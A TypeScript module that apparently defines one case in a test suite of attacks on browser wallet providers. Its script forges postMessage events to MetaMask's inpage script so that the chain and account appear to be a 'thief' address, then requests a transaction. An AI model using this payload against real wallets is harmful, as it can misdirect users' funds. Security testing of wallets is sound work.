import type { Attack } from '../Attack.ts';

/** The page tells its own provider that the wallet is elsewhere. */
export const attack: Attack = {
  entry: 'window.postMessage to the inpage script',
  mechanism: 'metamask_chainChanged forged, then asked',
  discovers: false,
  script: `
await kit.ready();
const tell = (method, params) => window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', method, params } } }, location.origin);
tell('metamask_chainChanged', { chainId: '0x1', networkVersion: '1' });
tell('metamask_accountsChanged', [kit.thief]);
await kit.sleep(200);
await window.ethereum.request(kit.send());
`,
};
